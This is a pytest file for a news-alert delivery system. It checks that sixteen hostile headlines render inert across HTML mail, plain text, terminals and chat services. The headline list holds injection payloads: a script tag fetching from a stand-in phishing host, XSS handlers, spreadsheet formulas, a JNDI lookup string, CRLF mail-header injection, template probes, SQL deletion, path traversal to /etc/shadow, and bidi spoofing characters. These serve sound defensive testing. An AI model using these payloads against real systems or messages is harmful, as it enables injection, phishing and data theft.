"""Sixteen headlines that attack what shows them: in every form they are words and nothing more."""

# mypy: disable-error-code="no-untyped-call, override, assignment"
# Apprise says that it is typed, and is so in part.

import re
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from apprise.plugins.discord import NotifyDiscord
from apprise.plugins.telegram import NotifyTelegram

from monitor.deliver.by_apprise import AppriseChannel
from monitor.deliver.channel import Earlier, Letter, Readership
from monitor.deliver.mail_page import templates
from monitor.deliver.render import Form, Rendered, render
from monitor.domain.alerts import AlertKind
from monitor.domain.bundles import Bundle
from monitor.domain.changes import Change, FigureChange, Kind, Op, SentenceChange, Severity, TitleChange
from monitor.domain.deliveries import Sent
from tests.deliver.doubles.certificates import a_certificate
from tests.deliver.doubles.discord import Discord
from tests.deliver.doubles.slack import SlackWebhook
from tests.deliver.doubles.teams import TeamsWorkflow
from tests.deliver.doubles.telegram import Telegram
from tests.deliver.doubles.web import running
from tests.deliver.made import SEOUL, a_letter, an_alert, an_edit
from tests.deliver.receivers import a_mail_server, a_web_service

HOSTILE = [
    "Storm <!channel> nears <!here> the coast",
    "Mayor <@U0AAAAAA1> resigns, says <https://phish.example|https://city.example>",
    "<script>fetch('//phish.example')</script> Ferry strike ends",
    "<img src=x onerror=alert(1)><svg/onload=alert(2)> Bridge opens",
    '=HYPERLINK("http://phish.example","prices") go up',
    "+1-800|calc'!A1 @SUM(A1:A9) harvest figures",
    "Court \x1b[2J\x1b]0;gone\x07 rules \x9b31m today",
    "Rail plan\r\nBcc: all@city.example\r\n\r\nGET / HTTP/1.1",
    "{{ config }} {% for c in ''.__class__.__mro__ %}{{ c }}{% endfor %} ${7*7} budget",
    "@everyone @here !channel read [the order](javascript:alert(1)) www.phish.example",
    "invoice \u202efdp.exe\u202c and \u2067isolate\u2069 the port",
    "%s %n %1$x {0.__class__} {alert.key} ${jndi:ldap://phish.example/x} formats",
    "../../../etc/shadow and C:\\Windows\\..\\boot.ini leak",
    '\'; DELETE FROM alerts; -- "quoted" `ticked` \\ slash',
    "tall " * 1200 + "end",
    "zero\u200b\u200dwidth\ufeff \U0001f9ed compass \U000e0061\U000e007f tags \u3164 fill",
]
PAGES = "https://newsmon.example/"
NUMBERS = range(len(HOSTILE))


class Tags(HTMLParser):
    """Gathers what a browser would act on."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.links: list[str] = []
        self.words = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links += [value or "" for name, value in attrs if name in {"href", "src"}]

    def handle_data(self, data: str) -> None:
        self.words += data


NAMELESS = {"outlet": ""}  # its source's name stands in its place


def letters(hostile: str) -> Iterator[Letter]:
    """The text in every place that a page can fill, as an alert, an edit and a bundle."""
    change = Change(
        kinds=(Kind.HEADLINE,),
        severity=Severity.HIGH,
        silent=None,
        reason=hostile,
        title=TitleChange(before=hostile, after=hostile),
        figures=(FigureChange(before=f"1 {hostile}", after=f"2 {hostile}", unit="USD", percent=100.0),),
        sentences=(
            SentenceChange(op=Op.REPLACE, before=f"a {hostile}", after=f"b {hostile}"),
            SentenceChange(op=Op.INSERT, after=hostile),  # a caption, a byline, a quotation: they come as sentences
        ),
        notice=hostile,
    )
    everywhere: dict[str, Any] = {
        "title": hostile,
        "lead": hostile,
        "outlet": hostile,
        "topics": (hostile,),
        "entered": (hostile,),
        "left": (hostile,),
        "reason": hostile,
    }
    new, edit = an_alert(url=f"javascript:{hostile}", **everywhere), an_edit(change=change, **everywhere)
    earlier = Earlier(at=new.at, title=hostile, article=7, key="0123")
    yield a_letter(new)
    yield a_letter(edit, repeat=True, earlier=earlier)
    yield a_letter(
        an_alert(AlertKind.REMOVED, change=change, edited_at=new.at, source=hostile, **everywhere | NAMELESS)
    )
    yield a_letter(an_alert(AlertKind.SOURCE, said={"en": hostile, "ko": hostile}, **everywhere))
    yield a_letter(new, edit, bundle=Bundle.DIGEST, heading=hostile)


def rendered(number: int, form: Form) -> Iterator[Rendered]:
    for letter in letters(HOSTILE[number]):
        for locale in ("ko", "en"):
            yield render(letter, form, Readership(locale=locale, zone=SEOUL, pages=PAGES))


def is_ours(address: str) -> bool:
    return address == "https://news.example/a/1" or address.startswith((f"{PAGES}mute?", f"{PAGES}articles/"))


def assert_dead(text: str) -> None:
    for live in ("@everyone", "@here", "<!channel>", "<!here>", "<@U", "!channel", "](", "www.phish", "ldap://"):
        assert live not in text
    assert "https://phish.example" not in text
    assert not set(text) & set("\x1b\x07\x9b\r\u202e\u2067\u200b\ufeff\u3164")


@pytest.mark.parametrize("number", NUMBERS)
def test_in_plain_text(number: int) -> None:
    for message in rendered(number, Form.TEXT):
        assert_dead(message.subject + "\n" + message.text)
        assert "\n" not in message.subject
        assert len(message.subject) <= 160


@pytest.mark.parametrize("number", NUMBERS)
def test_in_slack(number: int) -> None:
    for message in rendered(number, Form.SLACK):
        assert_dead(re.sub(r"<https?://[^|>]+", "", message.text))
        marked = [part.partition(">")[0] for part in message.text.split("<")[1:]]
        assert all(is_ours(part.partition("|")[0]) for part in marked)


@pytest.mark.parametrize("number", NUMBERS)
def test_in_html(number: int) -> None:
    for message in rendered(number, Form.MAIL):
        seen = Tags(message.html)
        assert not seen.tags & {"script", "img", "svg", "iframe", "object", "form", "style", "link"}
        assert not [name for name in seen.attributes if name.startswith("on")]
        assert all(map(is_ours, seen.links))
        assert_dead(seen.words)


@pytest.mark.parametrize("number", NUMBERS)
def test_on_a_terminal(number: int, capsys: pytest.CaptureFixture[str]) -> None:
    channel = AppriseChannel("screen", ["terminal://"], "ko", SEOUL)
    for letter in letters(HOSTILE[number]):
        assert isinstance(channel.send(letter, channel.targets[0]), Sent)
    assert_dead(capsys.readouterr().out)


@pytest.mark.parametrize("number", NUMBERS)
def test_on_the_wire_of_a_webhook_and_a_mail(number: int) -> None:
    with a_web_service() as service, a_mail_server() as server:
        urls = [
            f"json://127.0.0.1:{service.port}/",
            f"mailto://127.0.0.1:{server.port}?from=a@example.org&to=b@example.org",
        ]
        channel = AppriseChannel("both", urls, "en", SEOUL)
        for target in channel.targets:
            assert isinstance(channel.send(a_letter(an_alert(title=HOSTILE[number])), target), Sent)
    said, mail = service.requests[0], server.messages[0]
    assert_dead(said.json["title"] + "\n" + said.json["message"])
    assert said.json["alerts"][0]["title"] == HOSTILE[number]
    assert max(said.body) < 0x80  # programs get the words as they are, escaped
    assert_dead(str(mail["Subject"]))
    assert (mail["Bcc"], mail.defects) == (None, [])


@pytest.mark.parametrize("number", NUMBERS)
def test_at_each_service(number: int, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """Contract 6: no mention, no link and no tag of a page leaves for a service, whoever wrote its plugin."""
    certificate = a_certificate(tmp_path)
    monkeypatch.setenv("REQUESTS_CA_BUNDLE", str(certificate.file))
    teams = TeamsWorkflow(context=certificate.context())
    with running(SlackWebhook()) as slack, running(Telegram()) as chat, running(Discord()) as room, running(teams):
        monkeypatch.setattr(NotifyTelegram, "notify_url", f"http://127.0.0.1:{chat.port}/bot")
        monkeypatch.setattr(NotifyDiscord, "notify_url", f"http://127.0.0.1:{room.port}/api/webhooks")
        gateway = f"gateway=http%3A%2F%2F127.0.0.1%3A{slack.port}%2Fservices"
        urls = [
            f"slack://T00000000/B00000000/abcdefghijklmnopqrstuvwx/?{gateway}",
            f"tgram://{chat.token}/{chat.chats[0]}",
            f"discord://{'1' * 18}/{'a' * 60}",
            f"workflow://127.0.0.1:{teams.port}/{teams.workflow}/{teams.signature}",
        ]
        channel = AppriseChannel("all", urls, "ko", SEOUL)
        edit = next(letter for letter in letters(HOSTILE[number]) if letter.repeat)
        assert {type(channel.send(edit, target)) for target in channel.targets} == {Sent}
    cards = teams.requests[0].json["attachments"][0]["content"]["body"]
    for shown in (slack.requests[0].json["text"], chat.shown[0], room.requests[0].json["content"], _texts(cards)):
        assert_dead(shown.replace("\r\n", "\n"))
        assert "]\u2060(" in shown or "](" not in HOSTILE[number]


def test_marks_of_markdown_are_words_where_markdown_is_read() -> None:
    marked = "**bold** _slanted_ ~~gone~~ `code` ||hidden||"
    letter = a_letter(an_alert(title=marked, lead=f"# {marked}"))
    with a_web_service() as service:
        channel = AppriseChannel(
            "m", [f"mmost://127.0.0.1:{service.port}/3ccdd113474722377935511fc85d3dd4"], "ko", SEOUL
        )
        assert isinstance(channel.send(letter, channel.targets[0]), Sent)
    text = service.requests[0].json["text"]
    assert not set(text) & set("*_~`|")
    assert "\n#" not in text
    assert "https://news.example/a/1" in text


def _texts(cards: list[dict[str, str]]) -> str:
    return "\n".join(card["text"] for card in cards if "text" in card)


def test_every_template_escapes_whatever_it_is_given() -> None:
    marker = "<marker a='1'>&amp;\"</marker>"
    for letter in letters(marker):
        html = render(letter, Form.MAIL, Readership(locale="ko", zone=SEOUL, pages=PAGES)).html
        assert "marker" in html
        assert "marker" not in Tags(html).tags


def test_no_template_is_left_out_of_escaping() -> None:
    environment = templates()
    assert environment.autoescape is True
    for name in environment.list_templates():
        source, _, _ = environment.loader.get_source(environment, name) if environment.loader else ("", "", None)
        assert "|safe" not in source.replace(" ", "")
        assert "autoescape" not in source
